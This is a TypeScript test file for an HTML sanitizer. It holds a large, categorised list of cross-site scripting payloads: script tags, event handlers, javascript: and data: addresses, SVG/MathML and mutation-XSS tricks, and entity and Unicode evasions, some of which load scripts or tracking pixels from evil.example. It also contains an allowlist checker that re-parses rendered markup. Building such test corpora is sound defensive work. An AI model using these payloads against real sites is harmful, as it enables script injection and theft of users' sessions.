/**
 * Texts that would run a script, load from elsewhere or break out of their place if treated as markup. Each calls
 * `xss()` or `alert()`, or requests something from evil.example, so that a test can tell whether one worked.
 */
const hostileMarkup = {
  scripts: [
    '<script>xss()</script>',
    '<SCRIPT>xss()</SCRIPT>',
    '<script src=https://evil.example/x.js></script>',
    '<script src="//evil.example/x.js"></script>',
    '<script type="module">xss()</script>',
    '<script/x>xss()</script/x>',
    '<script\n>xss()</script\n>',
    '<scr<script>ipt>xss()</scr</script>ipt>',
    '<<script>xss()//<</script>',
    '<script>xss()',
    '</script><script>xss()</script>',
    '"><script>xss()</script>',
    "'><script>xss()</script>",
    '<script\u0000>xss()</script>',
    '<script x="</script>">xss()</script>',
    '<script><!--\nxss()\n//--></script>',
    '<template><script>xss()</script></template>',
    '<object><script>xss()</script></object>',
  ],
  handlers: [
    '<img src=x onerror=xss()>',
    '<img src=x onerror="xss()">',
    "<img src=x onerror='xss()'>",
    '<img src=x onerror=xss&lpar;&rpar;>',
    '<img src=x:x onerror\t=\txss()>',
    '<img/src=x/onerror=xss()>',
    '<IMG SRC=x OnErRoR=xss()>',
    '<img src=x onerror=&#120;&#115;&#115;()>',
    '<img """><img src=x onerror=xss()>">',
    '<img src=x onerror=xss()//',
    '<body onload=xss()>',
    '<p onmouseover=xss() onpointerenter=xss()>hover</p>',
    '<strong onclick=xss()>click</strong>',
    '<a onfocus=xss() autofocus tabindex=0>focus</a>',
    '<input onfocus=xss() autofocus>',
    '<select onfocus=xss() autofocus></select>',
    '<textarea onfocus=xss() autofocus></textarea>',
    '<details open ontoggle=xss()>x</details>',
    '<video src=x onerror=xss()></video>',
    '<video><source onerror=xss()></video>',
    '<audio src=x onerror=xss()></audio>',
    '<marquee onstart=xss()>x</marquee>',
    '<iframe onload=xss()></iframe>',
    '<form onsubmit=xss()><button>go</button></form>',
    '<p onanimationstart=xss() style="animation:x 1s">x</p>',
    '<p onfocusin=xss() contenteditable autofocus>x</p>',
    '<li data-list="bullet" onbeforeinput=xss()>x</li>',
    '<span class="ql-size-huge" onwheel=xss()>x</span>',
    '<b/onclick=xss()>x</b>',
    '<br onclick=xss()>',
  ],
  addresses: [
    '<a href="javascript:xss()">x</a>',
    '<a href="JaVaScRiPt:xss()">x</a>',
    '<a href=" javascript:xss()">x</a>',
    '<a href="java\tscript:xss()">x</a>',
    '<a href="java\nscript:xss()">x</a>',
    '<a href="java\r\nscript:xss()">x</a>',
    '<a href="\u0001javascript:xss()">x</a>',
    '<a href="\u0000javascript:xss()">x</a>',
    '<a href="&#106;avascript:xss()">x</a>',
    '<a href="&#x6A;avascript&colon;xss()">x</a>',
    '<a href="&#0000106avascript:xss()">x</a>',
    '<a href="javascript&#58;xss()">x</a>',
    '<a href="java&Tab;script:xss()">x</a>',
    '<a href="java&NewLine;script:xss()">x</a>',
    '<a href="javascript://example.com/%0axss()">x</a>',
    '<a href="javascript:/*https://example.com*/xss()">x</a>',
    '<a href="vbscript:xss()">x</a>',
    '<a href="view-source:javascript:xss()">x</a>',
    '<a href="https:javascript:xss()" rel="opener" target="_blank">x</a>',
    '<a href="http://example.com" href="javascript:xss()">x</a>',
    '<a href=javascript:xss() href="http://example.com">x</a>',
    '<a xlink:href="javascript:xss()">x</a>',
    '<a href="//evil.example/x">x</a>',
    '<a href="\\\\evil.example\\x">x</a>',
    '<a href="blob:https://evil.example/x">x</a>',
    '<a href="filesystem:https://evil.example/x">x</a>',
    '<a href="https://example.com" ping="https://evil.example/ping">x</a>',
    '<base href="https://evil.example/"><a href="x">x</a>',
    '<form action="javascript:xss()"><button>go</button></form>',
    '<button formaction="javascript:xss()">go</button>',
    '<iframe src="javascript:xss()"></iframe>',
    '<embed src="javascript:xss()">',
    '<object data="javascript:xss()"></object>',
    '<isindex action="javascript:xss()" type=image>',
    '<meta http-equiv="refresh" content="0;url=javascript:xss()">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  ],
  dataAddresses: [
    '<a href="data:text/html,<script>xss()</script>">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==">x</a>',
    '<iframe src="data:text/html,<script>parent.xss()</script>"></iframe>',
    '<object data="data:text/html,<script>parent.xss()</script>"></object>',
    '<embed src="data:image/svg+xml,<svg onload=xss()>">',
    '<script src="data:text/javascript,xss()"></script>',
    '<iframe srcdoc="<script>parent.xss()</script>"></iframe>',
    '<iframe srcdoc="&lt;script&gt;parent.xss()&lt;/script&gt;"></iframe>',
    '<link rel=stylesheet href="data:text/css,body{background:url(https://evil.example/x)}">',
    "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='xss()'/>\">",
  ],
  svg: [
    '<svg onload=xss()>',
    '<svg/onload=xss()>',
    '<svg><script>xss()</script></svg>',
    '<svg><script href="data:text/javascript,xss()"/></svg>',
    '<svg><script>&#120;ss()</script></svg>',
    '<svg><a xlink:href="javascript:xss()"><text y=20>x</text></a></svg>',
    '<svg><animate onbegin=xss() attributeName=x dur=1s></svg>',
    '<svg><set attributeName=onmouseover to=xss()></svg>',
    '<svg><a><animate attributeName=href values=javascript:xss() /><text y=20>x</text></a></svg>',
    '<svg><foreignObject><iframe src=javascript:xss()></iframe></foreignObject></svg>',
    '<svg><foreignObject><img src=x onerror=xss()></foreignObject></svg>',
    '<svg><use href="https://evil.example/x.svg#x"/></svg>',
    '<svg><image href="https://evil.example/x.png"/></svg>',
    '<svg><style>@import "https://evil.example/x.css"</style></svg>',
    '<svg><desc><![CDATA[</desc><script>xss()</script>]]></svg>',
    '<svg><title><img src=x onerror=xss()></title></svg>',
    '<svg xmlns:x="http://www.w3.org/1999/xhtml"><x:script>xss()</x:script></svg>',
    '<svg><handler type="text/javascript">xss()</handler></svg>',
  ],
  mathml: [
    '<math><mtext><script>xss()</script></mtext></math>',
    '<math href="javascript:xss()">x</math>',
    '<math><maction actiontype="statusline#x" xlink:href="javascript:xss()">x</maction></math>',
    '<math><mi xlink:href="data:x,<script>xss()</script>">x</mi></math>',
    '<math><annotation-xml encoding="text/html"><img src=x onerror=xss()></annotation-xml></math>',
    '<math><mtext><img src=x onerror=xss()></mtext></math>',
    '<math><style><img src=x onerror=xss()></style></math>',
  ],
  mutations: [
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=xss()&gt;">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=xss()>',
    '<svg></p><style><a id="</style><img src=1 onerror=xss()>">',
    '<math></p><style><!--</style><img src/onerror=xss()>',
    '<noscript><p title="</noscript><img src=x onerror=xss()>">',
    '<noembed><img title="</noembed><img src=x onerror=xss()>"></noembed>',
    '<noframes><p title="</noframes><img src=x onerror=xss()>"></noframes>',
    '<xmp><p title="</xmp><img src=x onerror=xss()>"></xmp>',
    '<title><p title="</title><img src=x onerror=xss()>"></title>',
    '<textarea><p title="</textarea><img src=x onerror=xss()>"></textarea>',
    '<style><p title="</style><img src=x onerror=xss()>"></style>',
    '<iframe><p title="</iframe><img src=x onerror=xss()>"></iframe>',
    '<select><template><style><!--</style><a rel="--></style></template></select><img id=x src=x onerror=xss()>">',
    '<template><p title="</template><img src=x onerror=xss()>"></template>',
    '<plaintext><img src=x onerror=xss()>',
    '<listing>&lt;img src=x onerror=xss()&gt;</listing>',
    '<!--><img src=x onerror=xss()>-->',
    '<!---!><img src=x onerror=xss()>-->',
    '<!-- --!><img src=x onerror=xss()> -->',
    '<![CDATA[<img src=x onerror=xss()>]]>',
    '<?xml version="1.0"?><img src=x onerror=xss()>',
    '<?php "?><img src=x onerror=xss()>" ?>',
    '<!doctype html><img src=x onerror=xss()>',
    '</p/><img src=x onerror=xss()>',
    '<p><b><i><u><s></b><img src=x onerror=xss()></i></p>',
    '<pre>\n<img src=x onerror=xss()></pre>',
    '<code>`<img src=x onerror=xss()>`</code>',
    '<a href="https://example.com/&quot;onmouseover=&quot;xss()">x</a>',
    '<a href="https://example.com/`><img src=x onerror=xss()>">x</a>',
    '<table><a href="javascript:xss()"><tr><td>x</td></tr></a></table>',
  ],
  entities: [
    '&lt;script&gt;xss()&lt;/script&gt;',
    '&amp;lt;img src=x onerror=xss()&amp;gt;',
    '&#60;img src=x onerror=xss()&#62;',
    '&#x3c;img src=x onerror=xss()&#x3e;',
    '&#60&#105&#109&#103 src=x onerror=xss()&#62',
    '&lt&lt;img src=x onerror=xss()&gt&gt;',
    '<b>&lt;img src=x onerror=xss()&gt;</b>',
    '<b>&amp;lt;script&amp;gt;xss()&amp;lt;/script&amp;gt;</b>',
    '&LT;IMG SRC=x ONERROR=xss()&GT;',
    '%3Cimg%20src%3Dx%20onerror%3Dxss()%3E',
    '\\u003cimg src=x onerror=xss()\\u003e',
    '\\x3cimg src=x onerror=xss()\\x3e',
  ],
  styles: [
    '<style>@import "https://evil.example/x.css";</style>',
    '<style>body{background:url(https://evil.example/x)}</style>',
    '<p style="background:url(https://evil.example/x)">x</p>',
    '<p style="background:url(javascript:xss())">x</p>',
    '<p style="width:expression(xss())">x</p>',
    '<p style="position:fixed;inset:0;z-index:9999">cover</p>',
    '<span class="ql-size-huge evil" style="behavior:url(#x)">x</span>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<link rel="preload" as="script" href="https://evil.example/x.js">',
    '<p style="--x:1;background-image:image-set(\'https://evil.example/x\' 1x)">x</p>',
  ],
  loads: [
    '<img src="https://evil.example/pixel.png">',
    '<img srcset="https://evil.example/pixel.png 1x">',
    '<picture><source srcset="https://evil.example/x.png"><img></picture>',
    '<video poster="https://evil.example/x.png"></video>',
    '<audio src="https://evil.example/x.mp3" autoplay></audio>',
    '<input type=image src="https://evil.example/x.png">',
    '<table background="https://evil.example/x.png"><tr><td>x</td></tr></table>',
    '<track src="https://evil.example/x.vtt">',
  ],
  templates: [
    '{{constructor.constructor("xss()")()}}',
    '${xss()}',
    '#{xss()}',
    '<%= xss() %>',
    '{{{<img src=x onerror=xss()>}}}',
    '__proto__',
    '{"__html":"<img src=x onerror=xss()>"}',
    '"-xss()-"',
    "';xss();//",
    '*/xss();/*',
    '</title><img src=x onerror=xss()>',
    ']]><img src=x onerror=xss()>',
  ],
  markdown: [
    '[x](javascript:xss())',
    '[x](JaVaScRiPt:xss())',
    '[x](data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==)',
    '[x](<javascript:xss()>)',
    '[x]( javascript:xss() "t")',
    '[x](java&#115;cript:xss())',
    '![x](https://evil.example/x.png)',
    '![x](x"onerror="xss())',
    '<javascript:xss()>',
    '[x][y]\n\n[y]: javascript:xss()',
    '`<img src=x onerror=xss()>`',
    '[<img src=x onerror=xss()>](https://example.com)',
    '[x](https://example.com/"onmouseover="xss())',
    '[x|javascript:xss()]',
    '{html}<img src=x onerror=xss()>{html}',
    '!https://evil.example/x.png!',
  ],
  signs: [
    '\uff1cimg src=x onerror=xss()\uff1e',
    '\u02b9><img src=x onerror=xss()>',
    '<\u200bscript>xss()</script>',
    '<img src=x \u2028onerror=xss()>',
    '<img\u00a0src=x onerror=xss()>',
    '<img\u000bsrc=x onerror=xss()>',
    '<\u0130mg src=x onerror=xss()>',
    '<\u017fcript>xss()</\u017fcript>',
    '<\u212abd onclick=xss()>x</\u212abd>',
    '\ufeff<script>xss()</script>',
    '\u202e<tpircs>()ssx</tpircs>',
    '<a href="java\u00adscript:xss()">x</a>',
    '<a href="javascript\uff1axss()">x</a>',
    '+ADw-script+AD4-xss()+ADw-/script+AD4-',
  ],
} as const satisfies Record<string, readonly string[]>

export const hostilePayloads: readonly string[] = Object.values(hostileMarkup).flat()

/** The part of a parsed element that is checked. */
export interface ParsedElement {
  readonly localName: string
  readonly attributes: Iterable<{ readonly name: string; readonly value: string }>
  readonly children: Iterable<ParsedElement>
}

// The list is repeated here, because one that was widened by mistake must not judge itself.
const harmlessTags = new Set('p br strong b em i u s sub sup span a ol ul li h1 h2 blockquote pre code'.split(' '))
const harmlessSize = /^ql-size-(?:small|medium|large|huge)$/u
const harmlessAttributes: Readonly<Record<string, RegExp>> = {
  'a rel': /^noopener noreferrer$/u,
  'li data-list': /^(?:ordered|bullet|checked|unchecked)$/u,
  ...Object.fromEntries(
    'span strong b em i u s sub sup code a'.split(' ').map((tag) => [`${tag} class`, harmlessSize]),
  ),
}

/** Describes everything in a parsed text that is not harmless markup. */
function findMarkupFaults(element: ParsedElement): readonly string[] {
  return [...element.children].flatMap((child) => [
    ...(harmlessTags.has(child.localName) ? [] : [`<${child.localName}>`]),
    ...[...child.attributes]
      .filter(({ name, value }) => !isHarmlessAttribute(child.localName, name, value))
      .map(({ name, value }) => `<${child.localName} ${name}="${value}">`),
    ...findMarkupFaults(child),
  ])
}

function isHarmlessAttribute(tag: string, name: string, value: string): boolean {
  if (tag === 'a' && name === 'href') return isOutsideAddress(value)
  return harmlessAttributes[`${tag} ${name}`]?.test(value) ?? false
}

/** Resolves the address as a browser would on one of our pages. */
function isOutsideAddress(address: string): boolean {
  try {
    const { protocol } = new URL(address, 'https://own.example/')
    return ['http:', 'https:', 'mailto:'].includes(protocol) && !/^[\s\\/]*[\\/]{2}/u.test(address)
  } catch {
    return true
  }
}

/** A page as a parser read it. */
export interface ParsedPage extends ParsedElement {
  readonly innerHTML: string
}

const reparseRounds = 3

/**
 * Checks a text that is rendered, read back and rendered again, because some markup turns into other markup on the way.
 */
export function findFaultsWhenRendered(html: string, parse: (page: string) => ParsedPage): readonly string[] {
  const faults: string[] = []
  let present = html
  for (let round = 0; round < reparseRounds; round += 1) {
    const page = parse(`<!doctype html><body>${present}`)
    faults.push(...[...page.attributes].map(({ name }) => `<body ${name}>`), ...findMarkupFaults(page))
    present = page.innerHTML
  }
  return faults
}
